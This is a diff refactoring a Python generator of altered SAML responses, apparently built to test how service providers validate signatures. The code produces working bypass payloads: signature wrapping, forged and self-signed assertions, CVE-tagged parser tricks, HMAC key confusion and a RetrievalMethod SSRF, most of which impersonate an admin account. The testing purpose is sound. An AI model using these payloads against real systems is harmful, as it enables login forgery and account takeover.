@@ -111,7 +111,6 @@ def sign(el, key, cert_der=None, sigalg=RS256, dalg=SHA256, hmackey=None, uri=No
     old = sig_of(el)
     if old is not None:
         _rm(old)
-    el.getroottree().getroot()
     tmp = parse(c14n(el))  # detached copy for digest
     dv = base64.b64encode(hashlib.new("sha1" if dalg == SHA1 else "sha256", c14n(tmp)).digest()).decode()
     s = parse(
@@ -168,11 +167,23 @@ def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
     def base():
         return parse(xml)
 
+    def fresh():
+        "a copy whose Response is not signed"
+        r = base()
+        s = sig_of(r)
+        if s is not None:
+            _rm(s)
+        return r
+
+    def renamed(r):
+        "the response with the person who is put in"
+        nid(r).text = evil
+        return r
+
     b = base()
     real = nid(b).text
     respsigned = sig_of(b) is not None
     asigned = sig_of(asr(b)) is not None
-    b.find("a:Issuer", NS).text if b.find("a:Issuer", NS) is not None else ""
     ek, ecd = mkcert()
     ck, ccd = mkcert(issuer_like=cert)
 
@@ -247,14 +258,6 @@ def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
         asr(r).addprevious(ev)
         add("inject_unsigned_assertion_into_signed_response", "xsw", r, "breaks response digest")
     if asigned:
-
-        def fresh():
-            r = base()
-            s = sig_of(r)
-            if s is not None:
-                _rm(s)
-            return r
-
         r = fresh()
         a = asr(r)
         a.addprevious(evilize(a))
@@ -361,30 +364,19 @@ def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
         x = out(r).replace(b'ID="' + a.get("ID").encode(), b'ID="&id;&id;')
         x = b'<!DOCTYPE r [<!ENTITY id "' + a.get("ID").encode()[:1] + b'">]>' + x
         add("cve_2025_23369_entity_id", "parser", x, "entity in ID attribute")
-        r = fresh()
-        a = asr(r)
-        sig_of(a).find("d:SignedInfo", NS)
-        ev = copy.deepcopy(a)
-        n = nid(ev)
-        n.text = evil
-        s2 = sig_of(ev)
-        si0 = s2.find("d:SignedInfo", NS)
-        si1 = copy.deepcopy(si0)
-        si1.find(".//d:DigestValue", NS).text = digest(ev)
-        si0.addnext(si1)
-        r.replace(a, ev)
-        add("cve_2025_29774_multi_signedinfo_after", "parser", r, "two SignedInfo, forged second")
-        r = fresh()
-        a = asr(r)
-        ev = copy.deepcopy(a)
-        nid(ev).text = evil
-        s2 = sig_of(ev)
-        si0 = s2.find("d:SignedInfo", NS)
-        si1 = copy.deepcopy(si0)
-        si1.find(".//d:DigestValue", NS).text = digest(ev)
-        si0.addprevious(si1)
-        r.replace(a, ev)
-        add("cve_2025_29774_multi_signedinfo_before", "parser", r)
+        for nm in ("after", "before"):
+            r = fresh()
+            a = asr(r)
+            ev = renamed(copy.deepcopy(a))
+            si0 = sig_of(ev).find("d:SignedInfo", NS)
+            si1 = copy.deepcopy(si0)
+            si1.find(".//d:DigestValue", NS).text = digest(ev)
+            if nm == "after":
+                si0.addnext(si1)
+            else:
+                si0.addprevious(si1)
+            r.replace(a, ev)
+            add(f"cve_2025_29774_multi_signedinfo_{nm}", "parser", r, f"two SignedInfo, forged one {nm}")
         r = fresh()
         a = asr(r)
         nid(a).text = evil
@@ -396,7 +388,6 @@ def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
         add("cve_2025_29775_digest_comment", "parser", r, "comment splits DigestValue")
         r = fresh()
         a = asr(r)
-        digest(asr(base()))
         nid(a).text = evil
         ext = etree.Element(P + "Extensions")
         d2 = etree.SubElement(ext, D + "DigestValue")
@@ -438,107 +429,81 @@ def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
         r = fresh()
         r.find("p:Status", NS).getparent().remove(r.find("p:Status", NS))
         add("status_missing", "protocol", r)
-        r = fresh()
-        r.set("Destination", "https://evil.example/acs")
-        add("destination_wrong_unsigned_response", "protocol", r)
-        r = fresh()
-        r.set("Destination", "")
-        add("destination_empty", "protocol", r)
-        r = fresh()
-        r.set("Destination", (r.get("Destination") or "") + ".evil.example/")
-        add("destination_prefix", "protocol", r)
-        r = fresh()
-        r.attrib.pop("Destination", None)
-        add("destination_missing", "protocol", r, "allowed by profile only if unsigned; policy reject", True)
-        r = fresh()
-        r.set("InResponseTo", "_other")
-        add("inresponseto_response_mismatch", "protocol", r)
-        r = fresh()
-        r.attrib.pop("InResponseTo", None)
-        add("inresponseto_response_removed", "protocol", r, "unsolicited at Response, solicited in Assertion", True)
+        for nm, attribute, value, *about in (
+            ("destination_wrong_unsigned_response", "Destination", "https://evil.example/acs"),
+            ("destination_empty", "Destination", ""),
+            ("destination_prefix", "Destination", "{}.evil.example/"),
+            ("inresponseto_response_mismatch", "InResponseTo", "_other"),
+            ("response_version_1_1", "Version", "1.1"),
+            ("response_issueinstant_1999", "IssueInstant", "1999-01-01T00:00:00Z", "unsigned attribute", True),
+        ):
+            r = fresh()
+            r.set(attribute, value.format(r.get(attribute) or ""))
+            add(nm, "protocol", r, *about)
+        for nm, attribute, *about in (
+            ("destination_missing", "Destination", "allowed by profile only if unsigned; policy reject", True),
+            ("inresponseto_response_removed", "InResponseTo", "unsolicited at Response, solicited in Assertion", True),
+            ("response_no_id", "ID"),
+        ):
+            r = fresh()
+            r.attrib.pop(attribute, None)
+            add(nm, "protocol", r, *about)
         r = fresh()
         r.find("a:Issuer", NS).text = "https://other-idp.example/"
         add("issuer_response_changed", "protocol", r)
-        r = fresh()
-        r.set("Version", "1.1")
-        add("response_version_1_1", "protocol", r)
-        r = fresh()
-        r.attrib.pop("ID")
-        add("response_no_id", "protocol", r)
-        r = fresh()
-        r.set("IssueInstant", "1999-01-01T00:00:00Z")
-        add("response_issueinstant_1999", "protocol", r, "unsigned attribute", True)
-        r = fresh()
-        r.tag = P + "LogoutResponse"
-        add("root_logoutresponse", "structure", r)
-        r = fresh()
-        r.tag = P + "ArtifactResponse"
-        add("root_artifactresponse", "structure", r)
-        r = fresh()
-        r.tag = "{urn:evil}Response"
-        add("root_wrong_namespace", "structure", r)
+        for nm, tag in (
+            ("root_logoutresponse", P + "LogoutResponse"),
+            ("root_artifactresponse", P + "ArtifactResponse"),
+            ("root_wrong_namespace", "{urn:evil}Response"),
+        ):
+            r = fresh()
+            r.tag = tag
+            add(nm, "structure", r)
         r = fresh()
         a = asr(r)
         r.append(etree.fromstring(f'<p:Extensions xmlns:p="{NS["p"]}"/>'))
         add("trailing_unknown_child", "structure", r, "schema order broken", True)
     # ---------- signature removal / forgery / tamper
-    r = base()
-    nid(r).text = evil
+    r = renamed(base())
     add("tamper_nameid", "sig", r)
     r = base()
     for v in r.iter(A + "AttributeValue"):
         v.text = evil
         break
     add("tamper_attribute", "sig", r)
-    r = strip(base())
-    nid(r).text = evil
+    r = renamed(strip(base()))
     add("all_signatures_removed", "sig", r)
     r = strip(base())
     add("all_signatures_removed_same_identity", "sig", r)
-    r = base()
-    nid(r).text = evil
+    r = renamed(base())
     for s in r.iter(D + "Signature"):
         for c in list(s):
             s.remove(c)
     add("signature_empty_element", "sig", r)
-    r = base()
-    nid(r).text = evil
+    r = renamed(base())
     for s in r.iter(D + "SignatureValue"):
         s.text = ""
     add("signaturevalue_empty", "sig", r)
-    r = base()
-    nid(r).text = evil
+    r = renamed(base())
     for s in r.iter(D + "SignedInfo"):
         for c in s.findall("d:Reference", NS):
             s.remove(c)
     add("reference_removed", "sig", r)
-    r = base()
-    nid(r).text = evil
-    for s in r.iter(D + "Reference"):
-        s.set("URI", "")
-    add("reference_uri_empty", "sig", r)
-    r = base()
-    nid(r).text = evil
+    for nm, uri, note in (
+        ("reference_uri_empty", "", ""),
+        ("reference_uri_dangling", "#nonexistent", ""),
+        ("reference_xpointer", "#xpointer(id('{}'))", ""),
+        ("reference_external_uri", "http://127.0.0.1:1/x.xml", "must not be dereferenced"),
+    ):
+        r = renamed(base())
+        for s in r.iter(D + "Reference"):
+            s.set("URI", uri.format(s.get("URI")[1:]))
+        add(nm, "sig", r, note)
+    r = renamed(base())
     for s in r.iter(D + "Reference"):
         s.attrib.pop("URI", None)
     add("reference_uri_missing", "sig", r)
-    r = base()
-    nid(r).text = evil
-    for s in r.iter(D + "Reference"):
-        s.set("URI", "#nonexistent")
-    add("reference_uri_dangling", "sig", r)
-    r = base()
-    nid(r).text = evil
-    for s in r.iter(D + "Reference"):
-        s.set("URI", "#xpointer(id('{}'))".format(s.get("URI")[1:]))
-    add("reference_xpointer", "sig", r)
-    r = base()
-    nid(r).text = evil
-    for s in r.iter(D + "Reference"):
-        s.set("URI", "http://127.0.0.1:1/x.xml")
-    add("reference_external_uri", "sig", r, "must not be dereferenced")
-    r = base()
-    nid(r).text = evil
+    r = renamed(base())
     for s in r.iter(D + "SignatureMethod"):
         s.set("Algorithm", "http://www.w3.org/2000/09/xmldsig#none")
     add("signaturemethod_none", "sig", r)
@@ -556,37 +521,31 @@ def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
             f'<ds:Transform xmlns:ds="{NS["d"]}" Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>',
         ),
     ):
-        r = base()
-        nid(r).text = evil
+        r = renamed(base())
         for t in r.iter(D + "Transforms"):
             t.append(parse(tr.encode()))
         add(nm, "sig", r)
-    r = base()
-    nid(r).text = evil
+    r = renamed(base())
     for t in list(r.iter(D + "Transforms")):
         t.getparent().remove(t)
     add("transforms_removed", "sig", r)
     for nm, k, cd in (("selfsigned_keyinfo_evil_cert", ek, ecd), ("selfsigned_cloned_subject_cert", ck, ccd)):
         for tgt in ("assertion", "response", "both"):
-            r = strip(base())
-            nid(r).text = evil
+            r = renamed(strip(base()))
             if tgt != "response":
                 sign(asr(r), k, cd)
             if tgt != "assertion":
                 sign(r, k, cd)
             add(f"{nm}_{tgt}", "forge", r)
-    r = strip(base())
-    nid(r).text = evil
+    r = renamed(strip(base()))
     sign(asr(r), ek, cder)
     add("evil_key_real_cert_in_keyinfo", "forge", r)
-    r = strip(base())
-    nid(r).text = evil
+    r = renamed(strip(base()))
     s = sign(asr(r), ek, ecd)
     xd = s.find(".//d:X509Data", NS)
     etree.SubElement(xd, D + "X509Certificate").text = base64.b64encode(cder).decode()
     add("two_certs_in_x509data", "forge", r)
-    r = strip(base())
-    nid(r).text = evil
+    r = renamed(strip(base()))
     s = sign(asr(r), ek, None)
     nums = ek.public_key().public_numbers()
 
@@ -599,8 +558,7 @@ def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
         )
     )
     add("keyinfo_keyvalue_evil", "forge", r, "CVE-2021-21239 style")
-    r = strip(base())
-    nid(r).text = evil
+    r = renamed(strip(base()))
     s = sign(asr(r), ek, None)
     s.append(
         parse(
@@ -609,12 +567,10 @@ def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
     )
     add("keyinfo_retrievalmethod", "forge", r, "SSRF")
     for nm, hk in (("pem", cert_pem), ("spki_pem", spki_pem), ("spki_der", spki_der), ("der", cder), ("empty", b"")):
-        r = strip(base())
-        nid(r).text = evil
+        r = renamed(strip(base()))
         sign(asr(r), None, cder, sigalg="http://www.w3.org/2001/04/xmldsig-more#hmac-sha256", hmackey=hk)
         add(f"hmac_confusion_{nm}", "forge", r)
-    r = strip(base())
-    nid(r).text = evil
+    r = renamed(strip(base()))
     sign(asr(r), None, None, sigalg="http://www.w3.org/2000/09/xmldsig#hmac-sha1", hmackey=b"x")
     add(
         "hmac_sha1_truncated",
@@ -751,16 +707,15 @@ def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
         + ev[rt.start() :].strip(),
         "DOCTYPE quoting differential",
     )
-    r = base()
-    asr(r)
-    x = out(r)
-    re.search(rb"<(?:\w+:)?Assertion ", x)
-    e2 = strip(base())
-    nid(e2).text = evil
     add(
         "cve_2025_25292_ns_differential",
         "parser",
-        re.sub(rb"(<(?:\w+:)?Assertion )", rb'\1xmlns:example="http://example.com&#x80;" ', out(e2), count=1),
+        re.sub(
+            rb"(<(?:\w+:)?Assertion )",
+            rb'\1xmlns:example="http://example.com&#x80;" ',
+            out(renamed(strip(base()))),
+            count=1,
+        ),
         "control char in namespace URI",
     )
     add("xmlns_confusion_lowercase_id", "parser", re.sub(rb' ID="(_[^"]+)"', rb' id="\1" ID="_evil"', raw, count=1))
@@ -817,28 +772,20 @@ def variants(xml, cert_pem, sp_cert_pem=None, evil="admin@example.org"):
                 f'<saml:EncryptedAssertion xmlns:saml="{NS["a"]}"><xenc:EncryptedData xmlns:xenc="{NS["x"]}" Type="http://www.w3.org/2001/04/xmlenc#Element"><xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/><ds:KeyInfo xmlns:ds="{NS["d"]}"><xenc:EncryptedKey><xenc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"/><xenc:CipherData><xenc:CipherValue>{B(wk)}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedKey></ds:KeyInfo><xenc:CipherData><xenc:CipherValue>{B(ct)}</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData></saml:EncryptedAssertion>'.encode()
             )
 
-        r = base()
-        s = sig_of(r)
-        s is not None and _rm(s)
+        r = fresh()
         a = asr(r)
         ev = evilize(a)
         r.replace(a, enc(ev))
         add("encrypted_unsigned_evil", "enc", r)
-        r = base()
-        s = sig_of(r)
-        s is not None and _rm(s)
+        r = fresh()
         a = asr(r)
         a.addprevious(enc(evilize(a)))
         add("encrypted_evil_plus_signed_plain", "enc", r)
-        r = base()
-        s = sig_of(r)
-        s is not None and _rm(s)
+        r = fresh()
         a = asr(r)
         a.addnext(enc(evilize(a)))
         add("signed_plain_plus_encrypted_evil", "enc", r)
-        r = base()
-        s = sig_of(r)
-        s is not None and _rm(s)
+        r = fresh()
         a = asr(r)
         e2 = evilize(a)
         sign(e2, ek, ecd)
